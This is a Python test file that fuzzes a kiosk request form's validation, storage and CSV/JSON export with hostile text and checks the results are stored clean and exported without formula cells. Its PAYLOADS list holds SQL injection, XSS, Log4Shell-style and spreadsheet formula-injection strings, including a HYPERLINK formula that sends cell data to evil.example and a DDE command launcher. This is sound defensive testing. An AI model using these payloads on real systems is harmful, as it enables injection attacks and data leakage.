"""Whatever a stranger types into the form, validation answers, storage keeps exactly what
validation produced, and the front desk's spreadsheet never runs it as a formula.

Hypothesis draws every field from all Unicode categories (but lone surrogates, which a
keyboard cannot produce and UTF-8 cannot hold), right-to-left and zero-width text, bidi
overrides, 10,000-character strings, SQL and spreadsheet-formula payloads.
"""

from __future__ import annotations

import csv
import os
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication

from kiosk.requests.export import read_json, write_csv, write_json
from kiosk.requests.model import BestTime, ContactMethod, RequestDraft, ValidRequest
from kiosk.requests.store import SqliteRequestStore
from kiosk.requests.validation import (
    BIDI_CONTROLS,
    EMAIL_MAX,
    NAME_MAX,
    NOTE_MAX,
    clean_text,
    validate,
)
from kiosk.session import FORM
from tests.support.typing import press_keys

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "600"))
PAYLOADS = [
    "'); DROP TABLE requests;--", "Robert'); DROP TABLE requests;--", "\" OR 1=1 --",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+cmd",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "%0A=1+1",
    "<script>alert(1)</script>", "${jndi:ldap://x}", "{name}", "{0}", "%s%s%n", "\\x00",
    "\u202eevil\u202c", "\u200b\u200c\u200d\u2060\ufeff", "مرحبا بالعالم", "שלום עולם",
    "\u200fمريم\u200e Smith", "Z̷̢̛̠a̵l̸g̶o̵", "🧑‍⚕️👩🏽‍🦳", "\u0000name", "a\u2028b\u2029c",
    "NUL\x00TAB\tCR\rLF\nVT\x0bFF\x0c", "ﷺ" * 50, "\U000e0041\U000e007f",
]  # fmt: skip
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=300)
HOSTILE = st.one_of(
    ANY_TEXT,
    st.sampled_from(PAYLOADS),
    st.builds(lambda s, n: (s or "x") * n, ANY_TEXT, st.sampled_from([10, 1000])).map(
        lambda s: s[:10_000]
    ),
    st.just("A" * 10_000),
    st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4).map(" ".join),
)
VALID_PHONES = ["2125552368", "(212) 555-2368", "+1 212 555 2368", "+44 20 7946 0958"]
VALID_EMAILS = ["ana@example.com", "josé@example.org", "x+tag@sub.example.co.uk"]


SHORT = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=60),
    st.sampled_from(PAYLOADS),
)  # within the length limits, so hostile text often passes validation and gets stored


def maybe_valid(valid: list[str]) -> st.SearchStrategy[str]:
    """Mostly a valid value, so hostile text elsewhere still reaches the store."""
    return st.one_of(st.sampled_from(valid), st.sampled_from(valid), st.just(""), HOSTILE)


DRAFTS = st.builds(
    RequestDraft,
    name=st.one_of(SHORT, SHORT, HOSTILE),
    phone=maybe_valid(VALID_PHONES),
    email=maybe_valid(VALID_EMAILS),
    contact_method=st.sampled_from([m.value for m in ContactMethod]),
    best_time=st.sampled_from([t.value for t in BestTime]),
    note=st.one_of(st.just(""), SHORT, HOSTILE),
    include_self_check=st.booleans(),
    self_check=st.lists(HOSTILE, max_size=3).map(tuple),
    consent=st.sampled_from([True, True, True, False]),
    language=st.sampled_from(["en", "es"]),
)
ERROR_CODES = {
    "name_required", "name_too_long", "phone_invalid", "phone_area_code", "phone_check",
    "phone_or_email", "phone_required", "email_invalid", "email_required", "note_too_long",
    "consent",
}  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
tally = {"drafts": 0, "valid": 0}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory):
    with SqliteRequestStore(tmp_path_factory.mktemp("store") / "requests.sqlite3") as store:
        yield store


def dangerous(text: str) -> list[str]:
    """Controls, lone surrogates and bidi overrides (joiners and marks are kept)."""
    return [ch for ch in text if unicodedata.category(ch) in ("Cc", "Cs") or ch in BIDI_CONTROLS]


@settings(
    max_examples=EXAMPLES,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(draft=DRAFTS)
def validate_store_and_export(store, tmp_path_factory, draft) -> None:
    tally["drafts"] += 1
    result = validate(draft, "US")
    if isinstance(result, dict):
        assert set(result) <= {"name", "phone", "email", "note", "consent"}
        assert set(result.values()) <= ERROR_CODES
        assert draft.consent or "consent" in result
        return
    tally["valid"] += 1
    assert draft.consent
    assert isinstance(result, ValidRequest)
    for text in (result.name, result.note, *result.self_check):
        assert clean_text(text) == text, "not normalised"
        assert not dangerous(text), "control or bidi override characters survived"
    assert 0 < len(result.name) <= NAME_MAX and len(result.note) <= NOTE_MAX
    assert result.email is None or len(result.email) <= EMAIL_MAX

    saved = store.add(result)
    back = store.get(saved.id)
    assert back == saved
    for field in ValidRequest.__slots__:
        assert getattr(back, field) == getattr(result, field), field
    assert saved.reference_code in {r.reference_code for r in store.list(search=result.name)}
    store.list(search=draft.name)  # searching for hostile text never fails either

    folder = tmp_path_factory.mktemp("export")
    write_csv([back], folder / "out.csv")
    with open(folder / "out.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 2  # header and the one request: no payload broke the row apart
    for cell in rows[1]:
        assert not cell.startswith(FORMULA_START), f"formula cell {cell[:40]!r}"
    write_json([back], folder / "out.json")
    assert read_json(folder / "out.json") == [back]


def test_hostile_drafts_validate_store_and_export_safely(
    store, tmp_path_factory, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every draft is refused with known codes or stored and exported intact; and the fuzzer
    really ran them all, with both outcomes (each path is only tested if it is reached)."""
    tally.update(drafts=0, valid=0)
    validate_store_and_export(store, tmp_path_factory)
    with capsys.disabled():
        print(f"\nhostile text: {tally}")
    assert tally["drafts"] >= EXAMPLES, tally
    assert 0 < tally["valid"] < tally["drafts"], tally


RTL_ZERO_WIDTH = "\u200fمريم\u200b \u202eZyx\u202c\u200d Núñez\ufeff"


def test_hostile_name_typed_on_a_physical_keyboard_is_stored_clean(
    kiosk_window, data_dir: Path, qtbot
) -> None:
    """RTL text with zero-width and bidi-override characters, typed key by key into the
    name field, is sent, stored without its bidi overrides (the marks and zero-width
    characters stay, as typed), and wiped afterwards."""
    window = kiosk_window((1280, 800))
    window.show_page(FORM)
    form = window.form
    for field, text in (("name", RTL_ZERO_WIDTH), ("phone", "2125552368")):
        edit = form.fields[field]
        form.scroll.ensureWidgetVisible(edit)
        QTest.mouseClick(edit, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(edit.hasFocus, timeout=2000)
        press_keys(edit, text)
    typed = form.fields["name"].text()
    assert "\u202e" in typed and "\u200b" in typed  # the field took the invisible characters
    form.hide_keyboard()
    for target in (form.consent, form.submit_button):
        form.scroll.ensureWidgetVisible(target)
        QApplication.processEvents()
        QTest.mouseClick(target, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: window.screens.currentWidget() is window.thanks, timeout=3000)

    (saved,) = form.store.list()
    assert saved.name == clean_text(typed) == "\u200fمريم\u200b Zyx\u200d Núñez"
    assert not dangerous(saved.name)
    window.start_over()
    assert form.fields["name"].text() == ""
